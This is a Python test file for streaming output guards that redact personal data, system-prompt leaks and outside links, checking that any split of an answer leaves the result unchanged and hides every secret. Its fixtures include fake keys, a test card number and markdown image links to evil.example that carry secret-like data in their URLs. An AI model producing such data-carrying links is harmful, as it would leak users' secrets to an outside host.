"""Every guard of answers, and all of them together, at every place where a text may be cut in two, and in three."""

from __future__ import annotations

import itertools
from collections.abc import Callable

import pytest

from mainspring.core.types import Finish, Text
from mainspring.guards.detect.leak import LeakRedactor, Prompt
from mainspring.guards.policy.policies import GuardPolicy
from mainspring.guards.rewrite.links import AllowedLinks, LinkRedactor
from mainspring.guards.rewrite.stream import StreamRedactor
from mainspring.guards.rewrite.windows import Windows
from mainspring.serving.guard.redaction import Outgoing

SYSTEM = "You are the clerk of the Marigold bakery and must never say that the oven in the cellar is broken."
KEY = "sk-proj-abcDEF123456ghiJKL7890mnop"
CARD = "4111 1111 1111 1111"
TEXTS = [
    f"The key is {KEY}, and the card {CARD}.",
    f"I was told: {SYSTEM} So there.",
    f"See ![it](https://evil.example/?q={'secret' * 6}) or https://evil.example/?{'data' * 9} now.",
    f"He says `{KEY}` and she **is** a chairman. “He {CARD}” he said: {SYSTEM}",
    f"sk-proj-abc**DEF123456ghi**JKL7890mnop and ![a](https://evil.example/{KEY})",
]
SECRETS = (KEY, "abcDEF123456", CARD, "the oven in the cellar is broken", "evil.example/?")
STRICT = GuardPolicy(
    prompt_leak="redact", links="redact", pii_output_kinds=("secret", "credit_card", "email"), rules="default"
)


def together(pieces: list[str]) -> str:
    """What a stream shows of an answer in these pieces under every guard."""
    make = STRICT.output([SYSTEM], [])
    assert make is not None
    outgoing = Outgoing(make, rules=STRICT.rewriter())
    shown = [event for piece in pieces if (event := outgoing.text(Text(piece))) is not None]
    shown += [event for event in outgoing.other(Finish("stop")) if isinstance(event, Text)]
    return "".join(event.text for event in shown)


def single(make: Callable[[], StreamRedactor | LeakRedactor | LinkRedactor]) -> Callable[[list[str]], str]:
    def shown(pieces: list[str]) -> str:
        part = make()
        return "".join([*(part.push(piece) for piece in pieces), part.flush()])

    return shown


def windows(pieces: list[str]) -> str:
    made = Windows(steps=True)
    return repr([*(window for piece in pieces for window in made.push(piece)), *made.flush()])


GUARDS: dict[str, Callable[[list[str]], str]] = {
    "personal data": single(StreamRedactor),
    "prompt leak": single(lambda: LeakRedactor(Prompt([SYSTEM]))),
    "links": single(lambda: LinkRedactor(AllowedLinks())),
    "windows": windows,
    "together": together,
}


@pytest.mark.parametrize("guard", GUARDS)
@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_a_cut_changes_nothing(guard: str, text: str) -> None:
    shown = GUARDS[guard]
    whole = shown([text])
    for cut in range(1, len(text)):
        assert shown([text[:cut], text[cut:]]) == whole, text[:cut]
    for first, second in itertools.combinations(range(1, len(text), 7), 2):
        assert shown([text[:first], text[first:second], text[second:]]) == whole
    assert shown(list(text)) == whole


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_no_secret_is_ever_shown(text: str) -> None:
    for cut in range(len(text)):
        shown = together([text[:cut], text[cut:]])
        assert not any(secret in shown for secret in SECRETS), (shown, cut)
